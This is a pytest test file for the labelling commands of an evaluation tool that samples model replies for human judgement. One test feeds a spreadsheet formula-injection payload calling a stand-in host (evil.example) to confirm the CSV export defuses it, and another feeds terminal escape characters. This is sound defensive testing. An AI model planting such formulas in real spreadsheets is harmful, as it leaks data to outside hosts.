"""Labels, from the draw to the verdict, through the command line."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from tests.support.project import NEW, OLD, TOTALS, replies_of

NAME = "invoices/total-right"


def rows_of(path):
    return [json.loads(line) for line in path.read_text().splitlines()]


def draw(project, count=10, seed=7, out="sheet.jsonl", *more):
    return project("label", "draw", NAME, "--n", str(count), "--seed", str(seed), "--out", out, *more)


def filled(project, label, name="sheet.jsonl", upto=None):
    rows = rows_of(project.root / name)
    for row in rows[:upto]:
        row["label"] = label(row) if callable(label) else label
    return project.lines("filled.jsonl", rows)


def take(project, path, *more):
    return project("label", "take", str(path), "--as", "Ada Ruiz", *more)


def right(row):
    return "pass" if json.loads(row["reply"])["total"] == json.loads(row["given"])["reference"] else "fail"


@pytest.fixture
def drawn(asked):
    assert draw(asked).code == 0
    return asked


def test_a_sheet_is_blind_to_the_version_and_says_what_to_judge(project):
    project.bring(OLD, replies_of())
    project.bring(NEW, replies_of('{{"total": {0}, "new": true}}'))
    said = draw(project, 200)
    assert said.code == 0
    assert "60 replies of model-6.1 on app" in said.out
    text = (project.root / "sheet.jsonl").read_text()
    assert OLD not in text and NEW not in text  # noqa: PT018 - one thought
    rows = rows_of(project.root / "sheet.jsonl")
    assert len(rows) == 120
    assert {row["label"] for row in rows} == {""}
    assert [row["row"] for row in rows] == list(range(1, 121))
    news = ['"new"' in row["reply"] for row in rows]
    assert 20 < sum(news[:60]) < 40  # mixed
    assert "The total equals" in rows[0]["claim"]


def test_the_same_seed_draws_the_same_replies_and_another_one_others(drawn):
    first = [row["reply"] for row in rows_of(drawn.root / "sheet.jsonl")]
    draw(drawn, 10, 7, "again.jsonl")
    assert [row["reply"] for row in rows_of(drawn.root / "again.jsonl")] == first
    draw(drawn, 10, 8, "other.jsonl")
    assert [row["reply"] for row in rows_of(drawn.root / "other.jsonl")] != first


def test_what_is_labelled_is_not_drawn_again(drawn):
    assert take(drawn, filled(drawn, "pass")).out.startswith("10 labels taken for invoices/total-right")
    draw(drawn, 200, 7, "rest.jsonl")
    rest = {row["reply"] for row in rows_of(drawn.root / "rest.jsonl")}
    assert len(rest) == 50  # equal words of both versions are one reply
    assert rest.isdisjoint(row["reply"] for row in rows_of(drawn.root / "sheet.jsonl"))
    take(drawn, filled(drawn, "pass", "rest.jsonl"))
    said = draw(drawn, 5, 9, "more.jsonl")
    assert (said.code, "nothing of invoices/total-right is left to label" in said.err) == (2, True)


def test_a_sheet_that_exists_is_not_overwritten(drawn):
    said = draw(drawn)
    assert (said.code, "exists already" in said.err) == (2, True)


def test_taking_a_sheet_again_changes_nothing(drawn):
    path = filled(drawn, "pass", upto=6)
    said = take(drawn, path)
    assert "6 labels taken" in said.out
    assert "4 still empty" in said.out
    held = (drawn.root / "labels/invoices/total-right.jsonl").read_bytes()
    said = take(drawn, path)
    assert "No label is new." in said.out
    assert "6 known already" in said.out
    assert (drawn.root / "labels/invoices/total-right.jsonl").read_bytes() == held


def test_a_label_that_says_something_else_needs_to_be_asked_for(drawn):
    take(drawn, filled(drawn, "pass", upto=3))
    path = filled(drawn, "fail", upto=3)
    said = take(drawn, path)
    assert said.code == 2
    assert "filled.jsonl:1" in said.err
    assert "Ada Ruiz said `pass` of this reply" in said.err
    said = take(drawn, path, "--replace")
    assert "3 replaced" in said.out


def test_every_wrong_line_is_named_and_none_is_taken(drawn):
    rows = rows_of(drawn.root / "sheet.jsonl")
    rows[0]["label"] = "good"
    rows[1]["draw"] = "0000"
    rows[2]["row"] = 99
    rows[3]["assertion"] = "invoices/total-rigth"
    rows[4]["assertion"] = "total-right"
    rows[6]["label"] = "pass"
    rows[7]["row"] = 9
    said = take(drawn, drawn.lines("filled.jsonl", rows))
    assert said.code == 2
    for line, words in (
        (1, "`label` is 'good'"),
        (2, "is not known here"),
        (3, "row 99 of draw"),
        (4, "has no assertion"),
        (5, "write SUITE/ASSERTION"),
        (6, "row 6 has no label, and a later one has"),
        (9, "row 9 stands here twice"),
    ):
        assert f"filled.jsonl:{line}:" in said.err, line
        assert words in said.err, words
    assert not (drawn.root / "labels/invoices/total-right.jsonl").exists()


def test_csv_for_spreadsheets_is_harmless_and_comes_back(project):
    project.bring(OLD, {probe: f'=HYPERLINK("http://evil.example?{total}")' for probe, total in TOTALS.items()})
    assert draw(project, 5, 7, "sheet.csv").code == 0
    with (project.root / "sheet.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert all(row["reply"].startswith("'=") for row in rows)
    with (project.root / "filled.csv").open("w", newline="") as file:
        writer = csv.DictWriter(file, rows[0], delimiter=";")
        writer.writeheader()
        writer.writerows([{**row, "label": " Fail "} for row in reversed(rows)])
    assert "5 labels taken" in take(project, project.root / "filled.csv").out


@pytest.mark.parametrize("out", ["sheet.jsonl", "sheet.csv"])
def test_a_sheet_whose_replies_were_sorted_apart_is_refused_by_row(asked, out):
    draw(asked, 10, 7, out)
    as_csv = out.endswith("csv")
    path = asked.root / out
    with path.open(newline="") as file:
        rows = list(csv.DictReader(file)) if as_csv else [json.loads(line) for line in file]
    rows = [{**row, "label": "pass"} for row in rows]
    rows[2]["reply"], rows[5]["reply"] = rows[5]["reply"], rows[2]["reply"]
    with (asked.root / f"filled-{out}").open("w", newline="") as file:
        if as_csv:
            writer = csv.DictWriter(file, rows[0])
            writer.writeheader()
            writer.writerows(rows)
        else:
            file.writelines(json.dumps(row) + "\n" for row in rows)
    said = take(asked, asked.root / f"filled-{out}")
    assert said.code == 2
    assert "row 3 does not show the reply that was drawn for it" in said.err
    assert "row 6 does not show" in said.err
    assert "row 4 " not in said.err
    assert not (asked.root / "labels/invoices/total-right.jsonl").exists()


def test_a_sheet_without_its_replies_is_refused(drawn):
    rows = [{**row, "label": "pass"} for row in rows_of(drawn.root / "sheet.jsonl")]
    del rows[1]["reply"]
    said = take(drawn, drawn.lines("filled.jsonl", rows))
    assert (said.code, "filled.jsonl:2: error: `reply` or `calls` is missing" in said.err) == (2, True), said.err
    (drawn.root / "filled.csv").write_text("assertion,draw,row,label\n")
    assert "lacks the column `reply`" in take(drawn, drawn.root / "filled.csv").err


def test_what_a_spreadsheet_does_to_line_ends_and_odd_characters_is_no_change(project):
    project.bring(OLD, {probe: f"=1\r\nsum:\r{total}\x00\n" for probe, total in TOTALS.items()})
    draw(project, 5, 7, "sheet.csv")
    with (project.root / "sheet.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    with (project.root / "filled.csv").open("w", newline="") as file:
        writer = csv.DictWriter(file, rows[0])
        writer.writeheader()
        for row in rows:
            reply = row["reply"].replace("\r\n", "\n").replace("\r", "\n").removeprefix("'")
            writer.writerow({**row, "reply": reply, "label": "fail"})
    assert "5 labels taken" in take(project, project.root / "filled.csv").out


def test_a_chosen_label_becomes_one_of_the_sample_when_the_draw_comes_to_it(drawn):
    first = rows_of(drawn.root / "sheet.jsonl")[0]
    draws = (drawn.root / "labels/invoices/draws/total-right.jsonl").read_text()
    probe = json.loads(draws)["rows"][0][2]
    row = {"assertion": NAME, "probe": probe, "reply": first["reply"], "label": "pass"}
    take(drawn, drawn.lines("chosen.jsonl", [row]))
    assert "10 labels taken" in take(drawn, filled(drawn, "pass")).out
    found = drawn("diff", "--json").document["assertions"][0]["new"]["labels"]
    assert (found["drawn"], found["chosen"], found["unclear"]) == (found["passes_checked"], 0, 0)


def test_a_chosen_reply_is_labelled_by_its_text(asked):
    probe, total = next(iter(TOTALS.items()))
    row = {"assertion": NAME, "probe": probe, "reply": f'{{"total": {total}}}', "label": "fail"}
    assert take(asked, asked.lines("chosen.jsonl", [row])).code == 0
    assert '"drawn": "chosen"' in (asked.root / "labels/invoices/total-right.jsonl").read_text()
    found = asked("diff", "--json").document["assertions"][0]["new"]
    assert (found["passes"], found["voids"]) == (59, {"agreement": 1})
    assert found["labels"]["drawn"] == 0
    row["probe"] = "inv-99"
    assert "has no probe" in take(asked, asked.lines("chosen.jsonl", [row])).err


def test_people_settle_what_the_check_cannot_read(project):
    project.bring(OLD, replies_of())
    project.bring(NEW, replies_of("The total is {0}."))
    assert project("diff", "--json").document["assertions"][0]["new"]["verdict"]["name"] == "invalid"
    draw(project, 60, 3, "sheet.jsonl", "--model", NEW)
    take(project, filled(project, "pass"))
    found = project("diff", "--json").document["assertions"][0]["new"]
    assert (found["verdict"]["name"], found["passes"]) == ("holds", 60)


def test_a_random_sample_takes_back_a_verdict_that_people_contradict(project):
    """The check passes all sixty; people, shown thirty of them, fail half."""
    project.bring(OLD, replies_of('{{"total": {0}, "old": true}}'))
    project.bring(NEW, replies_of())
    draw(project, 30, 3, "sheet.jsonl", "--model", NEW)
    assert project("diff").code == 0
    said = take(project, filled(project, lambda row: "pass" if row["row"] % 2 else "fail"))
    assert "30 labels" in said.out
    found = project("diff", "--json").document["assertions"][0]
    assert found["old"]["labels"] is None
    labels = found["new"]["labels"]
    assert (labels["replies"], labels["drawn"], labels["false_passes"], labels["passes_checked"]) == (60, 30, 15, 30)
    assert labels["corrected"] == [0.5, 0.5]
    assert labels["alarm_bounds"][1] < 0.9
    why = project("diff", "--why", NAME)
    assert "15 of 30 passes are a person's fail" in why.out
    assert "rate corrected by them 0.500" in why.out
    # the fifteen are void by themselves, so that nothing holds; the block is tested where they are not
    assert found["new"]["verdict"]["name"] == "invalid"


LEAKS = """
suite: {id: invoices, version: 1, kind: functional, owner: payments, layers: [model]}
probes:
  each: rows.csv
  user: "{{ text }}"
assertions:
  - id: total-right
    claim: The secret is not told.
    check: {lacks: SECRET}
    bar: never
    controls: {passes: ["no"], fails: ["SECRET"]}
"""


def test_a_leak_that_only_people_see_fails(project):
    """The check looks for SECRET, and eight of the sixty replies tell it in other letters."""
    project.suite(LEAKS)
    project.bring(OLD, dict.fromkeys(TOTALS, "I cannot tell."))
    leaking = list(TOTALS)[:8]
    project.bring(NEW, {probe: f"s3cr3t is {n}" if probe in leaking else f"No, {n}." for n, probe in enumerate(TOTALS)})
    assert project("diff").code == 0
    draw(project, 60, 3, "sheet.jsonl", "--model", NEW)
    take(project, filled(project, lambda row: "fail" if "s3cr3t" in row["reply"] else "pass"))
    said = project("diff", "--json")
    found = said.document["assertions"][0]["new"]
    assert (found["verdict"]["name"], found["fails"], found["voids"]) == ("failing", 8, {})
    assert said.code == 1
    assert "a person says fail" in project("diff", "--why", NAME).out


def test_too_few_passes_by_every_label_are_no_wait_for_more_replies(project):
    """People fail seven of sixty passes. The voids are within what is tolerated; the rate is not."""
    project.bring(OLD, replies_of())
    project.bring(NEW, replies_of('{{"total": {0}, "new": true}}'))
    draw(project, 60, 3, "sheet.jsonl", "--model", NEW)
    take(project, filled(project, lambda row: "fail" if row["row"] <= 7 else "pass"))
    found = project("diff", "--json").document["assertions"][0]["new"]
    assert found["voids"] == {"agreement": 7}
    assert found["verdict"]["name"] == "invalid"
    assert "people's labels of a random sample" in project("diff", "--why", NAME).out


def test_a_sheet_can_be_taken_again_after_a_write_that_failed(drawn, monkeypatch):
    path = filled(drawn, "pass")
    real = Path.replace
    monkeypatch.setattr("pathlib.Path.replace", lambda *_: (_ for _ in ()).throw(OSError(28, "No space left")))
    said = take(drawn, path)
    assert (said.code, "no label was taken" in said.err) == (2, True)
    assert not (drawn.root / "labels/invoices/total-right.jsonl").exists()
    monkeypatch.setattr("pathlib.Path.replace", real)
    assert "10 labels taken" in take(drawn, path).out


def test_a_damaged_file_of_labels_is_named_by_line(drawn):
    take(drawn, filled(drawn, "pass"))
    path = drawn.root / "labels/invoices/total-right.jsonl"
    path.write_text(path.read_text() + '{"probe": 1}\n<<<<<<< HEAD\n')
    said = drawn("diff")
    assert said.code == 2
    assert "labels/invoices/total-right.jsonl:11" in said.err
    assert "labels/invoices/total-right.jsonl:12" in said.err


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("draw", "invoices", "--n", "3"), "did you mean invoices/total-right?"),
        (("draw", "invoices/total-rigt", "--n", "3"), "did you mean `total-right`"),
        (("draw", "nope/x", "--n", "3"), "there is no suite"),
        (("draw", NAME, "--n", "0"), "draw at least one"),
        (("draw", NAME, "--n", "3", "--model", "model-9"), "no reply of 'model-9'"),
    ],
)
def test_what_cannot_be_drawn(asked, arguments, words):
    said = asked("label", *arguments, "--seed", "1", "--out", "sheet.jsonl")
    assert (said.code, words in said.err) == (2, True), said.err
    assert not (asked.root / "sheet.jsonl").exists()


def test_nothing_is_stored_yet(project):
    said = draw(project)
    assert (said.code, "no reply to invoices is stored" in said.err) == (2, True)


def test_hostile_replies_reach_no_terminal(project):
    project.bring(OLD, dict.fromkeys(TOTALS, "\x1b[31m\u202e\x00"))
    draw(project, 3)
    take(project, filled(project, "fail"))
    draw(project, 3, 8, "sheet.csv")
